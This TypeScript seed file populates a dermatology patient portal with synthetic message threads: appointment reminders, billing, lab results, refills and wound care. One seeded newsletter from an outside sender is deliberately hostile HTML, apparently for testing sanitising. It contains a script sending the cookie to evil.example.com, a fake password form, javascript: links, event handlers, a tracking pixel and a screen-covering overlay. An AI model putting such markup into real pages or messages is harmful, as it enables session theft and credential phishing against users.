import { people, type NamedPerson } from '../../seed/people.ts'

/** Somebody who writes to patients: a physician or group of the practice, or somebody outside it (number 0). */
export interface Sender {
  id: number
  name: string
  isGroup: boolean
}

/** The numbers of the groups are the same at every practice. */
export const groups = [
  { id: 1, name: 'Front Desk', isGroup: true },
  { id: 2, name: 'Billing Office', isGroup: true },
  { id: 3, name: 'Nurses', isGroup: true },
  { id: 4, name: 'Refill Requests', isGroup: true },
] as const satisfies readonly Sender[]

const [frontOffice, billingOffice, nurses, refillRequests] = groups
const marchetti = { id: 101, name: 'Helen Marchetti', isGroup: false }
const desai = { id: 102, name: 'Samir Desai', isGroup: false }
const lindholm = { id: 103, name: 'Grace Lindholm', isGroup: false }
const pettigrew = { id: 201, name: 'Laura Pettigrew', isGroup: false }
const outside = { id: 0, name: 'Healthy Skin Monthly', isGroup: false }

export interface SeededMessage {
  /** Days before the seed, at least 1. */
  before: number
  /** HTML. */
  body: string
  /** The patient wrote it to the person or group of the thread. */
  isFromPatient?: true
  /** The guardian who wrote it for the patient. */
  guardian?: string
  isUnread?: true
  isHigh?: true
  hasStatement?: true
}

export interface SeededThread {
  person: NamedPerson
  with: Sender
  subject: string
  /** A bill is the first one of the patient. */
  about?: 'bill' | { kind: string; id: string; label: string }
  messages: readonly SeededMessage[]
}

const theirs = (before: number, body: string, marks: Partial<SeededMessage> = {}): SeededMessage => ({
  before,
  body,
  ...marks,
})
const own = (before: number, body: string, guardian?: string): SeededMessage => ({
  before,
  body,
  isFromPatient: true,
  ...(guardian === undefined ? {} : { guardian }),
})

/**
 * What somebody outside the practice sends who means harm: a script, an outside picture, a link that runs code, a form,
 * and a style that covers the screen.
 */
const hostileNewsletter = `<style>body { display: none } .cover { position: fixed; inset: 0; z-index: 9999; background: #fff }</style>
<div class="cover" style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:9999"><h1>Your skin this month</h1></div>
<p>Dear reader,</p>
<p>The sun is back. Here are <strong>three habits</strong> that keep your skin healthy:</p>
<ol><li>Use sunscreen with SPF 30 or more, also on cloudy days.</li><li>Drink enough water.</li><li>Look at your moles once a month.</li></ol>
<p onclick="alert('clicked')">Tap a tip to <a href="javascript:alert(document.cookie)">read more</a>, or see <a href="https://skin-news.example.com/issues/12">the whole issue</a>.</p>
<img src="https://tracker.example.com/open.gif?reader=1001" alt="The sun above a lake" onerror="alert('picture')">
<script>document.location = 'https://evil.example.com/?c=' + document.cookie</script>
<form action="https://evil.example.com/sign-in"><label>Password <input name="password" type="password"></label><button>Sign in again</button></form>
<iframe src="https://evil.example.com/"></iframe>
<p>With best wishes,<br>the editors</p>`

const maria = people.mariaAlvarez

/** Maria Alvarez has 30 messages in 14 threads and sent 12; of the other people each has a few. */
export const seededThreads: readonly SeededThread[] = [
  {
    person: maria,
    with: frontOffice,
    subject: 'Please call us about your next appointment',
    messages: [
      theirs(
        1,
        '<p>Dear Ms. Alvarez,</p><p>Your provider has to move some visits of next week. <strong>Please call us today at (212) 555-0140</strong>, so that we find you a time that suits you.</p><p>Thank you,<br>the front desk</p>',
        { isUnread: true, isHigh: true },
      ),
    ],
  },
  {
    person: maria,
    with: billingOffice,
    subject: 'Statement for your last visit',
    about: 'bill',
    messages: [
      theirs(
        18,
        '<p>Hello Maria,</p><p>your insurance has decided about your last visit. The statement is attached. You can pay online or by phone.</p>',
        { hasStatement: true },
      ),
      own(17, '<p>Thank you. Why is the removal of the spots not covered?</p>'),
      theirs(
        16,
        '<p>Your plan counts it as cosmetic:</p><ul><li>Code 17110, removal of benign lesions: $176.00</li><li>Your plan pays: $0.00</li></ul><p>If your provider agrees that it was <em>medically necessary</em>, we can send an appeal.</p>',
      ),
      theirs(
        2,
        '<p>Hello Maria, your provider has signed the appeal. We sent it to your insurance today and will tell you what they say.</p>',
        { isUnread: true },
      ),
    ],
  },
  {
    person: maria,
    with: desai,
    subject: 'Your lab results are ready',
    about: { kind: 'result', id: '1', label: 'Blood count' },
    messages: [
      theirs(5, '<p>Dear Maria,</p><p>the laboratory has your sample. I expect the result tomorrow.</p>'),
      theirs(
        4,
        '<p>Dear Maria,</p><p>all values are <strong>in the normal range</strong>:</p><table><thead><tr><th>Test</th><th>Result</th><th>Normal</th></tr></thead><tbody><tr><td>Hemoglobin</td><td>13.4 g/dL</td><td>12.0 to 15.5</td></tr><tr><td>White cells</td><td>6.1 K/µL</td><td>4.5 to 11.0</td></tr></tbody></table><p>There is nothing to do.</p>',
        { isUnread: true },
      ),
    ],
  },
  {
    person: maria,
    with: outside,
    subject: 'Your skin this month: three habits for sunny days',
    messages: [theirs(9, hostileNewsletter, { isUnread: true })],
  },
  {
    person: maria,
    with: frontOffice,
    subject: 'Before your skin check',
    messages: [
      theirs(
        25,
        '<p>Please come without make-up and nail polish, and bring a list of your medications.</p><p>Parking is behind the building.</p>',
      ),
      own(24, '<p>May I bring my son?</p>'),
      theirs(20, '<p>Of course. There is a corner with books in the waiting room.</p>'),
    ],
  },
  {
    person: maria,
    with: refillRequests,
    subject: 'Refill of tretinoin cream',
    about: { kind: 'medication', id: '1', label: 'Tretinoin 0.025% cream' },
    messages: [
      own(30, '<p>My cream is nearly used up. May I have a refill?</p>'),
      theirs(29, '<p>Yes. Which pharmacy shall we send it to?</p>'),
      own(28, '<p>The one on Lexington Avenue, please.</p>'),
      theirs(28, '<p>It is sent. It should be ready this afternoon.</p>'),
    ],
  },
  {
    person: maria,
    with: refillRequests,
    subject: 'Approval of your cream by the insurance',
    messages: [
      theirs(35, '<p>Your insurance asks for our approval before it pays for the cream. We have sent it.</p>'),
      theirs(33, '<p>The insurance has agreed for <strong>12 months</strong>.</p>'),
    ],
  },
  {
    person: maria,
    with: lindholm,
    subject: 'Your biopsy result',
    about: { kind: 'result', id: '2', label: 'Skin biopsy, left arm' },
    messages: [
      theirs(
        44,
        '<h2>Your result</h2><p>The spot on your left arm is <strong>benign</strong>. This means that it is not cancer.</p><h3>What to do</h3><ol><li>Keep the place clean and dry.</li><li>Use sunscreen.</li><li>See us again in a year.</li></ol>',
      ),
      own(43, '<p>What a relief, thank you! Does the scar need a special cream?</p>'),
      theirs(42, '<p>No. Plain petroleum jelly is best.</p>'),
      theirs(40, '<p>One more thing: the stitches can come out from Thursday on. Any nurse can do it.</p>'),
    ],
  },
  {
    person: maria,
    with: nurses,
    subject: 'Wound care after your biopsy',
    messages: [
      theirs(
        47,
        '<p>How to care for the wound:</p><table><tr><th scope="row">Day 1</th><td>Leave the bandage on.</td></tr><tr><th scope="row">Day 2 to 7</th><td>Wash with soap and water, then put on petroleum jelly.</td></tr></table><blockquote>Call us if it bleeds for more than 20 minutes.</blockquote>',
      ),
      own(46, '<p>It is a little red around the stitches. Is this normal?</p>'),
      theirs(46, '<p>A narrow red edge is normal. Does it feel warm, or does it hurt more than yesterday?</p>'),
      own(45, '<p>No, neither.</p>'),
      theirs(45, '<p>Then all is well. Write to us if that changes.</p>'),
    ],
  },
  {
    person: maria,
    with: frontOffice,
    subject: 'Your new insurance card',
    messages: [
      theirs(60, '<p>Our copy of your insurance card is more than a year old. Has anything changed?</p>'),
      own(59, '<p>The number is the same, only the color is new.</p>'),
      theirs(58, '<p>Thank you, then we need nothing else.</p>'),
    ],
  },
  {
    person: maria,
    with: marchetti,
    subject: 'Which sunscreen?',
    messages: [
      own(75, '<p>Which sunscreen do you recommend for <em>very</em> dry skin?</p>'),
      theirs(74, '<p>A cream rather than a spray, with SPF 50 and without perfume.</p>'),
      own(73, '<p>Is a mineral one better?</p>'),
      theirs(72, '<p>If others sting, yes. Otherwise take the one that you like to use.</p>'),
    ],
  },
  {
    person: maria,
    with: frontOffice,
    subject: 'New opening hours at Midtown',
    messages: [
      theirs(90, '<p>From next month, Midtown is open from 8 AM to 5 PM on all weekdays.</p>'),
      theirs(88, '<p>A correction: on Fridays we close at noon.</p>'),
      theirs(87, '<p>And the phone is answered from 7:30 AM.</p>'),
    ],
  },
  {
    person: maria,
    with: nurses,
    subject: 'Rash on my arm',
    messages: [
      own(110, '<p>Since Monday I have a rash on my right arm. It itches at night.</p>'),
      theirs(109, '<p>Have you used a new soap, or worked in the garden?</p>'),
      own(109, '<p>Both! New gloves, too.</p>'),
      theirs(
        108,
        '<p>Leave out the gloves and cool the skin. If it is not better on Friday, please make an appointment.</p>',
      ),
      theirs(104, '<p>How is your arm today?</p>'),
    ],
  },
  {
    person: maria,
    with: frontOffice,
    subject: 'Welcome to the patient portal',
    messages: [
      theirs(
        150,
        '<p>Welcome! Here you can</p><ul><li>see and book appointments,</li><li>pay your bills,</li><li>write to us.</li></ul><p>In an emergency call 911.</p>',
      ),
    ],
  },
  {
    person: people.lucasAlvarez,
    with: nurses,
    subject: 'Eczema plan for Lucas',
    messages: [
      theirs(31, '<p>Please use the ointment twice a day for two weeks, then once a day.</p>'),
      own(30, '<p>Thank you. May he swim?</p>', 'Gabriel Alvarez'),
      theirs(29, '<p>Yes, with ointment before and a shower after.</p>', { isUnread: true }),
    ],
  },
  {
    person: people.adaOkafor,
    with: desai,
    subject: 'Acne treatment',
    messages: [
      theirs(27, '<p>Dear Ada, please start with the gel <strong>every second evening</strong>.</p>'),
      own(13, '<p>My skin is dry now. Should I stop?</p>'),
      theirs(12, '<p>Take a break of three days, then use it twice a week.</p>', { isUnread: true }),
    ],
  },
  {
    person: people.benCarter,
    with: pettigrew,
    subject: 'Your yearly check-up',
    messages: [
      theirs(23, '<p>Dear Ben, everything was fine. See you next year.</p>'),
      own(22, '<p>Thank you! Do I need a tetanus shot?</p>'),
      theirs(21, '<p>Yes, it is due. The nurses can give it without an appointment.</p>', { isUnread: true }),
    ],
  },
]
